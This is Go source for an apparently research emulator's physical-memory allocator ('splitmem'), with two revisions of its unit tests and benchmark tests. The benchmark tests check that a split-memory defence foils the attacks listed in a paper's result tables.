var ErrOutOfMemory = fmt.Errorf("mem: out of physical frames")

// Alloc allocates a zeroed frame with reference count 1.
func (p *Physical) Alloc() (uint32, error) {
	if len(p.free) == 0 {
		return 0, ErrOutOfMemory
	}
	p.ownMeta()
	f := p.free[len(p.free)-1]
	p.free = p.free[:len(p.free)-1]
	p.refs[f] = 1
	p.allocCnt++
	// Zero the frame by releasing its contents; one generation bump, matching
	// the historical clear-through-Frame behavior.
	p.gens[f]++
	p.release(f)
	return f, nil
}

// IncRef increments the reference count of an allocated frame. Misuse
// (frame 0, out of range, or unallocated) is contained: the refcount is left
// untouched and a FrameError is returned and delivered to the FaultHook.
func (p *Physical) IncRef(f uint32) error {
	if f == 0 || f >= p.nframes || p.refs[f] == 0 {
		return p.fault("incref", f)
	}
	p.ownMeta()
	p.refs[f]++
	return nil
}

// RefCount returns the current reference count of frame f.
func (p *Physical) RefCount(f uint32) int {
	if f >= p.nframes {
		return 0
	}
	return int(p.refs[f])
}

// Free decrements the reference count of frame f, returning it to the free
// list when the count reaches zero. A double free or a free of frame 0 is
// contained the same way IncRef misuse is.
func (p *Physical) Free(f uint32) error {
	if f == 0 || f >= p.nframes || p.refs[f] == 0 {
		return p.fault("free", f)
	}
	p.ownMeta()
	p.refs[f]--
	if p.refs[f] == 0 {
		p.free = append(p.free, f)
	}
	return nil
}

// Frame returns the backing bytes of frame f. The slice aliases this
// machine's physical memory: writes through it are real stores (a shared
// frame is copied out of the Base first). An out-of-range frame yields the
// zeroed poison frame (and a machine-check fault) so that callers can never
// index outside physical memory.
func (p *Physical) Frame(f uint32) []byte {
	if f >= p.nframes {
		p.fault("frame", f)
		clear(p.poison)
		return p.poison
	}
	// The slice may be written through, so conservatively treat every hand-out
	// as a content change. Callers must not retain the slice across guest
	// instructions for this to be sound (Seal relies on it too: sealed pages
	// move into the immutable Base).
	p.ownMeta()
	p.gens[f]++
	pg := p.writable(f)
	return pg[:PageSize:PageSize]
}

// Byte returns the byte at physical address pa (0 with a contained fault
// when pa is outside physical memory).
func (p *Physical) Byte(pa uint32) byte {
	f := pa >> PageShift
	if f >= p.nframes {
		p.fault("read", f)
		return 0
	}
	b := p.view(f)
	if b == nil {
		return 0
	}
	return b[pa&PageMask]
}

// SetByte writes the byte at physical address pa.
func (p *Physical) SetByte(pa uint32, v byte) {
	f := pa >> PageShift
	if f >= p.nframes {
		p.fault("write", f)
		return
	}
	p.ownMeta()
	p.gens[f]++
	p.writable(f)[pa&PageMask] = v
}

// Read32 reads a little-endian 32-bit word at physical address pa, which may
// span a frame boundary.
func (p *Physical) Read32(pa uint32) uint32 {
	f := pa >> PageShift
	if off := pa & PageMask; f < p.nframes && off <= PageSize-4 {
		b := p.view(f)
		if b == nil {
			return 0
		}
		b = b[off:]
		return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
	}
	var v uint32
	for i := uint32(0); i < 4; i++ {
		v |= uint32(p.Byte(pa+i)) << (8 * i)
	}
	return v
}

// Write32 writes a little-endian 32-bit word at physical address pa.
func (p *Physical) Write32(pa uint32, v uint32) {
	f := pa >> PageShift
	if off := pa & PageMask; f < p.nframes && off <= PageSize-4 {
		p.ownMeta()
		p.gens[f]++
		b := p.writable(f)[off:]
		b[0] = byte(v)
		b[1] = byte(v >> 8)
		b[2] = byte(v >> 16)
		b[3] = byte(v >> 24)
		return
	}
	for i := uint32(0); i < 4; i++ {
		p.SetByte(pa+i, byte(v>>(8*i)))
	}
}

// CopyFrame copies the contents of frame src into frame dst.
func (p *Physical) CopyFrame(dst, src uint32) {
	d := p.Frame(dst)
	if src >= p.nframes {
		// Match the historical copy-from-poison behavior: fault, copy zeros.
		p.fault("frame", src)
		clear(d)
		return
	}
	p.ownMeta()
	p.gens[src]++ // Frame(src) would have bumped it; keep the cadence
	if s := p.view(src); s != nil {
		copy(d, s)
	} else {
		clear(d)
	}
}

// RegisterTelemetry registers the allocator's counters as sampled gauges.
// Sampling happens at export time; allocation paths are untouched.
func (p *Physical) RegisterTelemetry(r *telemetry.Registry) {
	if r == nil {
		return
	}
	r.GaugeFunc("splitmem_mem_frames_total", "physical frames (including reserved frame 0)",
		func() float64 { return float64(p.nframes) })
	r.GaugeFunc("splitmem_mem_frames_free", "allocatable frames remaining",
		func() float64 { return float64(len(p.free)) })
	r.GaugeFunc("splitmem_mem_allocations_total", "lifetime frame allocations",
		func() float64 { return float64(p.allocCnt) })
	r.GaugeFunc("splitmem_mem_machine_checks_total", "contained physical-memory faults",
		func() float64 { return float64(p.faults) })
	r.GaugeFunc("splitmem_mem_frames_shared", "frames read through the shared base image",
		func() float64 { return float64(p.nshared) })
	r.GaugeFunc("splitmem_mem_frames_private", "frames materialized in the private overlay",
		func() float64 { return float64(p.nprivate) })
	r.GaugeFunc("splitmem_mem_cow_copies_total", "lifetime copy-on-write frame unshares",
		func() float64 { return float64(p.cowCopies) })
}

// EncodeMeta serializes the allocator state — everything except frame
// contents: free list order (a stack whose order decides every future
// allocation), refcounts, write generations and counters.
func (p *Physical) EncodeMeta(w *snapshot.Writer) {
	w.U32(p.nframes)
	w.U64(p.allocCnt)
	w.U64(p.faults)
	w.U32(uint32(len(p.free)))
	for _, f := range p.free {
		w.U32(f)
	}
	for _, r := range p.refs {
		w.U16(r)
	}
	for _, g := range p.gens {
		w.U64(g)
	}
}

// EncodeFrames serializes the frame contents sparsely (only frames with at
// least one nonzero byte), because a restored machine starts from all-zero
// physical memory. Frames are read without going through Frame, which would
// bump write generations and make Snapshot a mutation.
func (p *Physical) EncodeFrames(w *snapshot.Writer) {
	var nonzero uint32
	for f := uint32(0); f < p.nframes; f++ {
		if frameNonzero(p.view(f)) {
			nonzero++
		}
	}
	w.U32(nonzero)
	for f := uint32(0); f < p.nframes; f++ {
		if b := p.view(f); frameNonzero(b) {
			w.U32(f)
			w.Raw(b)
		}
	}
}

// EncodeState serializes the full allocator and frame state
// (EncodeMeta followed by EncodeFrames; the byte format is unchanged from
// the flat-storage era).
func (p *Physical) EncodeState(w *snapshot.Writer) {
	p.EncodeMeta(w)
	p.EncodeFrames(w)
}

// DecodeMeta restores allocator state serialized by EncodeMeta into a freshly
// constructed Physical of the same size. Frame contents are untouched; pair
// with DecodeFrames or Attach.
func (p *Physical) DecodeMeta(r *snapshot.Reader) error {
	if n := r.U32(); n != p.nframes {
		return snapshot.Corruptf("mem: frame count %d, machine has %d", n, p.nframes)
	}
	p.ownMeta()
	p.allocCnt = r.U64()
	p.faults = r.U64()
	nfree := r.U32()
	if nfree >= p.nframes {
		return snapshot.Corruptf("mem: free list of %d frames", nfree)
	}
	p.free = p.free[:0]
	for i := uint32(0); i < nfree; i++ {
		f := r.U32()
		if f == 0 || f >= p.nframes {
			return snapshot.Corruptf("mem: free frame %d out of range", f)
		}
		p.free = append(p.free, f)
	}
	for f := range p.refs {
		p.refs[f] = r.U16()
	}
	for f := range p.gens {
		p.gens[f] = r.U64()
	}
	return r.Err()
}

// DecodeFrames restores frame contents serialized by EncodeFrames,
// discarding any current contents (and detaching from any Base).
func (p *Physical) DecodeFrames(r *snapshot.Reader) error {
	p.Close()
	p.frames = nil
	p.nprivate = 0
	nonzero := r.U32()
	if nonzero > p.nframes {
		return snapshot.Corruptf("mem: %d nonzero frames of %d", nonzero, p.nframes)
	}
	for i := uint32(0); i < nonzero; i++ {
		f := r.U32()
		if f >= p.nframes {
			return snapshot.Corruptf("mem: frame %d out of range", f)
		}
		raw := r.Raw(PageSize)
		if len(raw) == PageSize {
			pg := make([]byte, PageSize)
			copy(pg, raw)
			if p.frames == nil {
				p.frames = make([][]byte, p.nframes)
			}
			p.frames[f] = pg
			p.nprivate++
		}
	}
	return r.Err()
}

// DecodeState restores state serialized by EncodeState into a freshly
// constructed Physical of the same size.
func (p *Physical) DecodeState(r *snapshot.Reader) error {
	if err := p.DecodeMeta(r); err != nil {
		return err
	}
	return p.DecodeFrames(r)
}

// Meta is a decoded, immutable copy of the allocator state EncodeMeta
// serializes: the free-list order, per-frame refcounts and write generations,
// and the lifetime counters. An Image caches one so repeated boots from the
// same template alias the allocator state (BootPhysical) instead of
// re-parsing the byte section every time.
type Meta struct {
	nframes  uint32
	allocCnt uint64
	faults   uint64
	free     []uint32
	refs     []uint16
	gens     []uint64
}

// SnapMeta captures the current allocator state as an immutable Meta. The
// copy is deep, so the machine may keep running (and mutating its free list,
// refcounts and generations) without disturbing the snapshot. A machine whose
// arrays still alias a Meta (BootPhysical, no mutation since) shares them
// onward instead of copying: re-imaging an undisturbed fork is free.
func (p *Physical) SnapMeta() *Meta {
	if p.metaShared {
		return &Meta{
			nframes:  p.nframes,
			allocCnt: p.allocCnt,
			faults:   p.faults,
			free:     p.free,
			refs:     p.refs,
			gens:     p.gens,
		}
	}
	return &Meta{
		nframes:  p.nframes,
		allocCnt: p.allocCnt,
		faults:   p.faults,
		free:     append([]uint32(nil), p.free...),
		refs:     append([]uint16(nil), p.refs...),
		gens:     append([]uint64(nil), p.gens...),
	}
}

// SkipMeta advances the reader past a section written by EncodeMeta without
// decoding it, validating only the framing. It lets a boot that already holds
// the decoded Meta (BootPhysical) keep the reader aligned with the canonical
// section sequence.
func SkipMeta(r *snapshot.Reader) error {
	n := r.U32()
	if n == 0 || n > (1<<30)/PageSize {
		return snapshot.Corruptf("mem: implausible frame count %d", n)
	}
	r.U64() // allocCnt
	r.U64() // faults
	nfree := r.U32()
	if nfree >= n {
		return snapshot.Corruptf("mem: free list of %d frames", nfree)
	}
	r.Skip(int(nfree) * 4) // free list
	r.Skip(int(n) * 2)     // refcounts
	r.Skip(int(n) * 8)     // write generations
	return r.Err()
}


func frameNonzero(b []byte) bool {
	for _, v := range b {
		if v != 0 {
			return true
		}
	}
	return false
}

// FlipBit flips one bit of an allocated frame — the chaos engine's model of
// a DRAM single-bit upset. bit indexes into the frame (0 ..
// PageSize*8-1). Flips of unallocated or reserved frames are refused so the
// injector only corrupts memory that is actually in use.
func (p *Physical) FlipBit(f uint32, bit uint32) bool {
	if f == 0 || f >= p.nframes || p.refs[f] == 0 {
		return false
	}
	bit %= PageSize * 8
	p.ownMeta()
	p.gens[f]++
	p.writable(f)[bit>>3] ^= 1 << (bit & 7)
	return true
}
