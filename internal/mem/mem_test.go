package mem

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestNewPhysicalValidation(t *testing.T) {
	tests := []struct {
		size int
		ok   bool
	}{
		{0, false},
		{-4096, false},
		{100, false},
		{PageSize, true},
		{16 * PageSize, true},
	}
	for _, tt := range tests {
		_, err := NewPhysical(tt.size)
		if (err == nil) != tt.ok {
			t.Errorf("NewPhysical(%d): err=%v, want ok=%v", tt.size, err, tt.ok)
		}
	}
}

func TestAllocFreeCycle(t *testing.T) {
	p, err := NewPhysical(8 * PageSize)
	if err != nil {
		t.Fatal(err)
	}
	if p.FreeFrames() != 7 { // frame 0 reserved
		t.Fatalf("free=%d want 7", p.FreeFrames())
	}
	var frames []uint32
	for i := 0; i < 7; i++ {
		f, err := p.Alloc()
		if err != nil {
			t.Fatal(err)
		}
		if f == 0 {
			t.Fatal("allocated reserved frame 0")
		}
		frames = append(frames, f)
	}
	if _, err := p.Alloc(); err != ErrOutOfMemory {
		t.Fatalf("want ErrOutOfMemory, got %v", err)
	}
	for _, f := range frames {
		p.Free(f)
	}
	if p.FreeFrames() != 7 {
		t.Fatalf("free=%d after freeing all", p.FreeFrames())
	}
}

func TestAllocReturnsZeroedFrame(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	f, _ := p.Alloc()
	fr := p.Frame(f)
	for i := range fr {
		fr[i] = 0xAA
	}
	p.Free(f)
	f2, _ := p.Alloc()
	if f2 != f {
		// The free list is a stack, so we should get the same frame back.
		t.Logf("got different frame %d (was %d); still verifying zeroing", f2, f)
	}
	for i, b := range p.Frame(f2) {
		if b != 0 {
			t.Fatalf("byte %d = %#x, frame not zeroed", i, b)
		}
	}
}

func TestRefcounts(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	f, _ := p.Alloc()
	p.IncRef(f)
	if p.RefCount(f) != 2 {
		t.Fatalf("refcount=%d", p.RefCount(f))
	}
	p.Free(f)
	if p.RefCount(f) != 1 {
		t.Fatalf("refcount=%d after one free", p.RefCount(f))
	}
	free := p.FreeFrames()
	p.Free(f)
	if p.FreeFrames() != free+1 {
		t.Fatal("frame not returned to free list")
	}
}

func TestRefcountPanics(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	for name, fn := range map[string]func(){
		"free unallocated":   func() { p.Free(2) },
		"incref unallocated": func() { p.IncRef(2) },
		"free frame 0":       func() { p.Free(0) },
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("%s: expected panic", name)
				}
			}()
			fn()
		}()
	}
}

func TestReadWrite32(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	p.Write32(100, 0xdeadbeef)
	if got := p.Read32(100); got != 0xdeadbeef {
		t.Fatalf("got %#x", got)
	}
	// Little-endian byte order.
	if p.Byte(100) != 0xef || p.Byte(103) != 0xde {
		t.Fatal("not little-endian")
	}
	// Page-crossing word.
	p.Write32(PageSize-2, 0x11223344)
	if got := p.Read32(PageSize - 2); got != 0x11223344 {
		t.Fatalf("page-crossing got %#x", got)
	}
}

func TestCopyFrame(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	a, _ := p.Alloc()
	b, _ := p.Alloc()
	fr := p.Frame(a)
	for i := range fr {
		fr[i] = byte(i)
	}
	p.CopyFrame(b, a)
	for i, v := range p.Frame(b) {
		if v != byte(i) {
			t.Fatalf("byte %d: got %d", i, v)
		}
	}
}

// Property: alloc/free sequences never corrupt the free list (no double
// handing-out of the same frame).
func TestQuickAllocUnique(t *testing.T) {
	f := func(ops []bool) bool {
		p, err := NewPhysical(16 * PageSize)
		if err != nil {
			return false
		}
		held := map[uint32]bool{}
		var order []uint32
		for _, alloc := range ops {
			if alloc {
				fr, err := p.Alloc()
				if err != nil {
					continue
				}
				if held[fr] {
					return false // double allocation
				}
				held[fr] = true
				order = append(order, fr)
			} else if len(order) > 0 {
				fr := order[len(order)-1]
				order = order[:len(order)-1]
				delete(held, fr)
				p.Free(fr)
			}
		}
		return true
	}
	cfg := &quick.Config{MaxCount: 300, Rand: rand.New(rand.NewSource(3))}
	if err := quick.Check(f, cfg); err != nil {
		t.Fatal(err)
	}
}
