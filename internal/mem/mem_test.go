package mem

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestNewPhysicalValidation(t *testing.T) {
	tests := []struct {
		size int
		ok   bool
	}{
		{0, false},
		{-4096, false},
		{100, false},
		{PageSize, true},
		{16 * PageSize, true},
	}
	for _, tt := range tests {
		_, err := NewPhysical(tt.size)
		if (err == nil) != tt.ok {
			t.Errorf("NewPhysical(%d): err=%v, want ok=%v", tt.size, err, tt.ok)
		}
	}
}

func TestAllocFreeCycle(t *testing.T) {
	p, err := NewPhysical(8 * PageSize)
	if err != nil {
		t.Fatal(err)
	}
	if p.FreeFrames() != 7 { // frame 0 reserved
		t.Fatalf("free=%d want 7", p.FreeFrames())
	}
	var frames []uint32
	for i := 0; i < 7; i++ {
		f, err := p.Alloc()
		if err != nil {
			t.Fatal(err)
		}
		if f == 0 {
			t.Fatal("allocated reserved frame 0")
		}
		frames = append(frames, f)
	}
	if _, err := p.Alloc(); err != ErrOutOfMemory {
		t.Fatalf("want ErrOutOfMemory, got %v", err)
	}
	for _, f := range frames {
		p.Free(f)
	}
	if p.FreeFrames() != 7 {
		t.Fatalf("free=%d after freeing all", p.FreeFrames())
	}
}

func TestAllocReturnsZeroedFrame(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	f, _ := p.Alloc()
	fr := p.Frame(f)
	for i := range fr {
		fr[i] = 0xAA
	}
	p.Free(f)
	f2, _ := p.Alloc()
	if f2 != f {
		// The free list is a stack, so we should get the same frame back.
		t.Logf("got different frame %d (was %d); still verifying zeroing", f2, f)
	}
	for i, b := range p.Frame(f2) {
		if b != 0 {
			t.Fatalf("byte %d = %#x, frame not zeroed", i, b)
		}
	}
}

func TestRefcounts(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	f, _ := p.Alloc()
	p.IncRef(f)
	if p.RefCount(f) != 2 {
		t.Fatalf("refcount=%d", p.RefCount(f))
	}
	p.Free(f)
	if p.RefCount(f) != 1 {
		t.Fatalf("refcount=%d after one free", p.RefCount(f))
	}
	free := p.FreeFrames()
	p.Free(f)
	if p.FreeFrames() != free+1 {
		t.Fatal("frame not returned to free list")
	}
}

func TestRefcountMisuseContained(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	var hooked []error
	p.FaultHook = func(err error) { hooked = append(hooked, err) }
	for name, fn := range map[string]func() error{
		"free unallocated":   func() error { return p.Free(2) },
		"incref unallocated": func() error { return p.IncRef(2) },
		"free frame 0":       func() error { return p.Free(0) },
	} {
		err := fn()
		if err == nil {
			t.Errorf("%s: expected FrameError", name)
			continue
		}
		if _, ok := err.(*FrameError); !ok {
			t.Errorf("%s: got %T, want *FrameError", name, err)
		}
	}
	if p.Faults() != 3 || len(hooked) != 3 {
		t.Fatalf("faults=%d hooked=%d, want 3 each", p.Faults(), len(hooked))
	}
	// Misuse must not disturb allocator state.
	if p.RefCount(0) != 1 || p.RefCount(2) != 0 {
		t.Fatal("refcounts disturbed by contained misuse")
	}
}

func TestPoisonFrameContainment(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	fr := p.Frame(99) // out of range
	if len(fr) != PageSize {
		t.Fatalf("poison frame len=%d", len(fr))
	}
	fr[0] = 0xFF // writable scratch; must not touch real memory
	if p.Byte(0) != 0 {
		t.Fatal("poison write leaked into frame 0")
	}
	if got := p.Byte(uint32(p.Size())); got != 0 {
		t.Fatalf("out-of-range Byte=%#x, want 0", got)
	}
	p.SetByte(uint32(p.Size()), 0xAB) // must be a no-op
	if p.Faults() < 3 {
		t.Fatalf("faults=%d, want >=3", p.Faults())
	}
}

func TestFlipBit(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	f, _ := p.Alloc()
	if !p.FlipBit(f, 13) {
		t.Fatal("FlipBit refused an allocated frame")
	}
	if p.Frame(f)[1] != 1<<5 {
		t.Fatalf("byte 1 = %#x after flipping bit 13", p.Frame(f)[1])
	}
	if !p.FlipBit(f, 13) || p.Frame(f)[1] != 0 {
		t.Fatal("second flip did not restore the bit")
	}
	if p.FlipBit(0, 0) {
		t.Fatal("FlipBit accepted reserved frame 0")
	}
	if p.FlipBit(3, 0) {
		t.Fatal("FlipBit accepted an unallocated frame")
	}
	if p.FlipBit(1000, 0) {
		t.Fatal("FlipBit accepted an out-of-range frame")
	}
}

func TestReadWrite32(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	p.Write32(100, 0xdeadbeef)
	if got := p.Read32(100); got != 0xdeadbeef {
		t.Fatalf("got %#x", got)
	}
	// Little-endian byte order.
	if p.Byte(100) != 0xef || p.Byte(103) != 0xde {
		t.Fatal("not little-endian")
	}
	// Page-crossing word.
	p.Write32(PageSize-2, 0x11223344)
	if got := p.Read32(PageSize - 2); got != 0x11223344 {
		t.Fatalf("page-crossing got %#x", got)
	}
}

func TestCopyFrame(t *testing.T) {
	p, _ := NewPhysical(4 * PageSize)
	a, _ := p.Alloc()
	b, _ := p.Alloc()
	fr := p.Frame(a)
	for i := range fr {
		fr[i] = byte(i)
	}
	p.CopyFrame(b, a)
	for i, v := range p.Frame(b) {
		if v != byte(i) {
			t.Fatalf("byte %d: got %d", i, v)
		}
	}
}

// Property: alloc/free sequences never corrupt the free list (no double
// handing-out of the same frame).
func TestQuickAllocUnique(t *testing.T) {
	f := func(ops []bool) bool {
		p, err := NewPhysical(16 * PageSize)
		if err != nil {
			return false
		}
		held := map[uint32]bool{}
		var order []uint32
		for _, alloc := range ops {
			if alloc {
				fr, err := p.Alloc()
				if err != nil {
					continue
				}
				if held[fr] {
					return false // double allocation
				}
				held[fr] = true
				order = append(order, fr)
			} else if len(order) > 0 {
				fr := order[len(order)-1]
				order = order[:len(order)-1]
				delete(held, fr)
				p.Free(fr)
			}
		}
		return true
	}
	cfg := &quick.Config{MaxCount: 300, Rand: rand.New(rand.NewSource(3))}
	if err := quick.Check(f, cfg); err != nil {
		t.Fatal(err)
	}
}
