package bench

import (
	"strings"
	"testing"
)

func TestTableRender(t *testing.T) {
	tab := &Table{
		Title:  "T",
		Header: []string{"a", "bb"},
		Rows:   [][]string{{"xxx", "y"}, {"1", "22222"}},
		Notes:  []string{"hello"},
	}
	out := tab.Render()
	for _, want := range []string{"T\n", "a", "bb", "xxx", "22222", "note: hello"} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q in:\n%s", want, out)
		}
	}
}

func TestFigureRender(t *testing.T) {
	fig := &Figure{
		Title: "F",
		Series: []Series{{
			Name:   "s",
			Labels: []string{"one", "two"},
			Values: []float64{1.0, 0.5},
		}},
		Notes: []string{"n"},
	}
	out := fig.Render()
	for _, want := range []string{"F\n", "one", "0.500", "########", "note: n"} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q in:\n%s", want, out)
		}
	}
}

func TestTable3Static(t *testing.T) {
	out := Table3().Render()
	for _, want := range []string{"Table 3", "ITLB / DTLB", "PIII", "4 KiB"} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q", want)
		}
	}
}

// TestTable1EndToEnd regenerates the full Table 1 and asserts the paper's
// claim: every applicable attack foiled.
func TestTable1EndToEnd(t *testing.T) {
	tab, err := Table1()
	if err != nil {
		t.Fatal(err)
	}
	out := tab.Render()
	if strings.Contains(out, "BREACHED") {
		t.Fatalf("table contains a breach:\n%s", out)
	}
	if !strings.Contains(out, "Return address") || !strings.Contains(out, "Longjmp buffer parameter") {
		t.Fatalf("table incomplete:\n%s", out)
	}
}

// TestTable2EndToEnd regenerates Table 2 and asserts all exploits work
// unprotected and are foiled under split memory.
func TestTable2EndToEnd(t *testing.T) {
	tab, err := Table2()
	if err != nil {
		t.Fatal(err)
	}
	out := tab.Render()
	if strings.Contains(out, "WARNING") {
		t.Fatalf("table contains warnings:\n%s", out)
	}
	if strings.Count(out, "root shell") != 5 {
		t.Fatalf("expected 5 unprotected shells:\n%s", out)
	}
	if strings.Count(out, "foiled") != 5 {
		t.Fatalf("expected 5 foiled:\n%s", out)
	}
}

// TestFig5EndToEnd renders the response-mode demonstrations.
func TestFig5EndToEnd(t *testing.T) {
	out, err := Fig5()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"break mode", "observe mode", "forensics mode",
		"exploit failed", "rootshell", "first 20 bytes",
		"[sebek]",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("fig5 missing %q", want)
		}
	}
}

// TestFig7Shape runs the cheap stress figure and verifies the paper's
// qualitative claim (both tests collapse to roughly half speed).
func TestFig7Shape(t *testing.T) {
	if testing.Short() {
		t.Skip("runs guest workloads")
	}
	fig, err := Fig7()
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range fig.Series[0].Values {
		if v > 0.75 || v < 0.2 {
			t.Fatalf("%s = %.3f out of the stress band", fig.Series[0].Labels[i], v)
		}
	}
}

// TestFig8Monotone asserts the page-size sweep's defining shape: normalized
// performance must trend upward toward parity as responses grow (small
// violations within noise are tolerated).
func TestFig8Monotone(t *testing.T) {
	if testing.Short() {
		t.Skip("sweep is slow")
	}
	fig, err := Fig8()
	if err != nil {
		t.Fatal(err)
	}
	vals := fig.Series[0].Values
	if len(vals) < 4 {
		t.Fatalf("sweep too short: %v", vals)
	}
	for i := 1; i < len(vals); i++ {
		if vals[i] < vals[i-1]-0.02 {
			t.Fatalf("non-monotone at %s: %.3f -> %.3f (%v)",
				fig.Series[0].Labels[i], vals[i-1], vals[i], vals)
		}
	}
	if vals[0] > 0.7 {
		t.Fatalf("1K page should be ctxsw-bound: %.3f", vals[0])
	}
	if last := vals[len(vals)-1]; last < 0.85 {
		t.Fatalf("largest page should approach parity: %.3f", last)
	}
}

// TestFig6Bands pins the Fig. 6 results to the paper's qualitative bands.
func TestFig6Bands(t *testing.T) {
	if testing.Short() {
		t.Skip("workloads are slow")
	}
	fig, err := Fig6()
	if err != nil {
		t.Fatal(err)
	}
	vals := fig.Series[0].Values // apache-32K, gzip, nbench, unixbench
	if vals[2] < 0.95 {
		t.Fatalf("nbench should be near parity: %.3f", vals[2])
	}
	for i, name := range []string{"apache-32K", "gzip"} {
		if vals[i] < 0.75 || vals[i] > 0.97 {
			t.Fatalf("%s = %.3f outside the 80-90%% band", name, vals[i])
		}
	}
	if vals[3] < 0.6 || vals[3] > 0.9 {
		t.Fatalf("unixbench = %.3f outside its band", vals[3])
	}
	// Ordering: compute fastest, unixbench slowest.
	if !(vals[2] > vals[0] && vals[2] > vals[1] && vals[3] < vals[0] && vals[3] < vals[1]) {
		t.Fatalf("ordering violated: %v", vals)
	}
}
